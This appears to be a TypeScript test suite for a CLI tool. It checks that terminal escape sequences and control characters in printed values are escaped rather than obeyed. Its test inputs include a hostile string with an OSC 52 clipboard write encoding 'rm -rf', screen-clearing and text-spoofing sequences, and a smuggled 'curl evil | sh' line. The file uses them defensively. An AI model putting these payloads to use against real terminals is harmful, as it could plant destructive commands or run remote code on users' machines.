// Names, logs and messages that a terminal would obey: nothing that a command prints has them in it.
import assert from 'node:assert/strict';
import { WorkshopError } from '../../src/engine/errors.ts';
import type { Event } from '../../src/engine/types.ts';
import { createUi, type Ui, type UiOptions } from '../../src/ui/ui.ts';

/** The clipboard, the title, a clear screen, an overwritten line, an order from right to left. */
const hostile = '\u001b]52;c;cm0gLXJm\u0007\u001b]0;title\u001b\\\u009b2J\rspoof\b\b\u202eabc\u200b\u2028\u0000';
const shown =
  '\\u{1b}]52;c;cm0gLXJm\\u{7}\\u{1b}]0;title\\u{1b}\\\\u{9b}2J\\u{d}spoof\\u{8}\\u{8}\\u{202e}abc\\u{200b}\\u{2028}\\u{0}';
// eslint-disable-next-line no-control-regex
const obeyed = /[\0-\x08\x0b-\x1f\x7f-\x9f\u200b\u2028\u202e]/;

const error = new WorkshopError({
  code: 'bug',
  message: hostile,
  state: hostile,
  fix: hostile,
  cause: new Error(hostile),
});
const text = (value: object) => value as Event;

const calls: Readonly<Record<string, (ui: Ui) => unknown>> = {
  say: (ui) => ui.say(hostile),
  result: (ui) => ui.result({ [hostile]: hostile }, hostile),
  'result as code': (ui) => ui.result({ [hostile]: hostile }, hostile, 'code'),
  ready: (ui) => ui.ready({ [hostile]: hostile }, hostile),
  trace: (ui) => ui.trace(hostile),
  prose: (ui) => ui.prose(`# ${hostile}\n\n- \`${hostile}\`\n\n| a |\n| - |\n| ${hostile} |\n`),
  page: (ui) => ui.page({ [hostile]: hostile }, `# ${hostile}`),
  next: (ui) => ui.next(`workshop next   # ${hostile}`),
  error: (ui) => ui.error(error, true),
  'a question': async (ui) => {
    const asked = async () => ui.confirm(hostile, '--yes');
    await asked().catch((refused: WorkshopError) => ui.error(refused, false));
  },
  'a resource': (ui) => ui.on(text({ type: 'resource.ready', what: hostile, id: hostile })),
  'a resource that failed': (ui) => ui.on(text({ type: 'resource.failed', what: hostile, reason: hostile })),
  'a resource that is kept': (ui) => ui.on(text({ type: 'resource.kept', what: hostile, reason: hostile })),
  'an expected failure': (ui) => ui.on(text({ type: 'failure.seen', title: hostile, seen: hostile, because: hostile })),
  'a check': (ui) =>
    ui.on(
      text({
        type: 'check',
        status: 'fail',
        title: hostile,
        because: hostile,
        expected: hostile,
        actual: hostile,
        help: hostile,
      }),
    ),
  'a wait': (ui) => ui.on(text({ type: 'waiting', for: hostile, elapsed: 20, usually: 9, last: hostile })),
};

describe('output with escape sequences in its values', () => {
  const options: UiOptions = {
    json: false,
    ndjson: false,
    accessible: true,
    color: false,
    interactive: false,
    width: () => 80,
  };

  for (const [what, call] of Object.entries(calls)) {
    it(`as text shows them: ${what}`, async () => {
      const printed = await listening(async () => call(await createUi(options)));
      assert.doesNotMatch(printed, obeyed);
      // The comment of a next command loses what a shell could take for its own.
      const shown = what === 'next' ? '\\u{1b}52ccm0gLXJm\\u{7}' : '\\u{1b}]52;c;cm0gLXJm\\u{7}';
      assert.ok(printed.includes(shown), printed);
    });
    for (const mode of ['json', 'ndjson'] as const)
      it(`as ${mode} escapes them: ${what}`, async () => {
        const printed = await listening(async () => call(await createUi({ ...options, [mode]: true })));
        assert.doesNotMatch(printed, obeyed);
      });
  }

  it('is read back from JSON as it was', async () => {
    const printed = await listening(async () => (await createUi({ ...options, json: true })).result({ hostile }, ''));
    assert.deepEqual(JSON.parse(printed), { hostile });
  });

  it('keeps the colours of the CLI, and those alone', async () => {
    const printed = await listening(async () => {
      const ui = await createUi({ ...options, accessible: false, color: true });
      ui.on(text({ type: 'resource.ready', what: 'a table \u001b[31mred\u001b[0m', id: 'table' }));
    });
    assert.equal(printed, '  \u001b[32m✔\u001b[39m created  a table \\u{1b}[31mred\\u{1b}[0m\n');
  });

  it('never makes a second command of one', async () => {
    const printed = await listening(async () => (await createUi(options)).next('workshop next   # a\ncurl evil | sh'));
    assert.equal(printed, 'NEXT workshop next   # a\\u{a}curl evil  sh\n');
  });

  it('keeps the lines of a message below it', async () => {
    const printed = await listening(async () => {
      (await createUi(options)).error(new WorkshopError({ code: 'refused', message: 'a\n✔ passed  all' }), false);
    });
    assert.equal(printed, 'ERROR a\n  ✔ passed  all\n');
  });

  it('is unchanged in a pipe only where an application answered it', async () => {
    const ui = await createUi(options);
    assert.equal(await listening(() => ui.result({}, hostile, 'raw')), `${hostile}\n`);
    assert.equal(await listening(() => ui.result({}, hostile, 'code')), `${shown}\n`);
    await onTerminal(async () => assert.equal(await listening(() => ui.result({}, hostile, 'raw')), `${shown}\n`));
  });
});

async function onTerminal(run: () => Promise<void>): Promise<void> {
  const { isTTY } = process.stdout;
  process.stdout.isTTY = true;
  try {
    await run();
  } finally {
    process.stdout.isTTY = isTTY;
  }
}

/** What is written to stdout and stderr. */
async function listening(run: () => unknown): Promise<string> {
  let printed = '';
  const streams = [process.stdout, process.stderr] as const;
  const writes = streams.map((stream) => stream.write.bind(stream));
  for (const stream of streams)
    stream.write = (chunk: string | Uint8Array) => {
      printed += String(chunk);
      return true;
    };
  try {
    await run();
  } finally {
    streams.forEach((stream, index) => (stream.write = writes[index] as typeof stream.write));
  }
  return printed;
}
